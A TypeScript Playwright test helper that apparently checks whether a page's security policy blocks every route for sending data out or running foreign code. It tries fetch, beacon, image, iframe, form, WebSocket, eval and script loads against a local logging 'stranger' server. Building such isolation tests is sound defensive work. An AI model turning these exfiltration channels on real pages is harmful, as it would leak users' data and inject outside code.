// Every way in which a page could hand data to somebody, or run code that did not come with it.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Frame, Page } from "playwright-core";

/** A server of a stranger: it writes down what reaches it. */
export async function openStranger() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.setHeader("Content-Type", "text/javascript");
    response.end("globalThis.straniero = true;");
  });
  server.on("upgrade", (request, socket) => {
    heard.push(`WEBSOCKET ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((ready) => server.listen(0, "localhost", ready));
  return {
    origin: `http://localhost:${(server.address() as AddressInfo).port}`,
    heard,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

/** Tries all ways out of a page. @returns those that worked; the stranger knows what it heard. */
export async function tryToLeave(page: Page | Frame, stranger: string): Promise<readonly string[]> {
  return page.evaluate(async (origin) => {
    const worked: string[] = [];
    const attempt = async (name: string, run: () => unknown) => {
      try {
        if ((await run()) !== false) worked.push(name);
      } catch {
        // Refused, as it must be.
      }
    };
    /** Resolves when the element has loaded, rejects when it was refused. */
    const loads = (element: HTMLElement) =>
      new Promise((done, fail) => {
        element.onload = done;
        element.onerror = fail;
        document.head.append(element);
        setTimeout(() => fail(new Error("nothing came")), 1000);
      });
    const element = (tag: string, values: object) =>
      Object.assign(document.createElement(tag), values);
    const runs = (script: string) => {
      document.head.append(element("script", { textContent: script }));
      return (globalThis as { eseguito?: boolean }).eseguito === true;
    };
    // What a debugger calls may evaluate until it waits for the first time.
    await new Promise((later) => setTimeout(later));
    await attempt("eval", () => (0, eval)("1"));
    await attempt("new Function", () => new Function("return 1")() as unknown);
    await attempt("script in the page", () => runs("globalThis.eseguito = true"));
    await attempt("script of a stranger", () => loads(element("script", { src: `${origin}/s` })));
    await attempt("module as data", () => {
      const code: string = "data:text/javascript,export default 1";
      return import(code);
    });
    await attempt("style of a stranger", () =>
      loads(element("link", { rel: "stylesheet", href: `${origin}/css` })),
    );
    await attempt("fetch", () => fetch(`${origin}/fetch?dato=1`));
    await attempt("fetch without an answer", () =>
      fetch(`${origin}/opaque`, { method: "POST", mode: "no-cors", body: "dato" }),
    );
    await attempt("beacon", () => {
      // The browser says yes and refuses afterwards: the stranger tells.
      navigator.sendBeacon(`${origin}/beacon`, "dato");
      return false;
    });
    await attempt("picture", () => loads(element("img", { src: `${origin}/img?dato=1` })));
    await attempt("frame", () => {
      document.body.append(element("iframe", { src: `${origin}/frame?dato=1` }));
      return false;
    });
    await attempt("form", () => {
      const form = element("form", { action: `${origin}/form`, method: "post", target: "_blank" });
      document.body.append(form);
      (form as HTMLFormElement).submit();
      return false;
    });
    await attempt(
      "socket",
      () =>
        new Promise((done, fail) => {
          const socket = new WebSocket(`${origin.replace("http", "ws")}/socket`);
          socket.onopen = done;
          socket.onerror = fail;
        }),
    );
    await attempt(
      "worker of our own making",
      () =>
        new Promise((done, fail) => {
          const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
          worker.onmessage = done;
          worker.onerror = fail;
        }),
    );
    await new Promise((later) => setTimeout(later, 300));
    return worked;
  }, stranger);
}
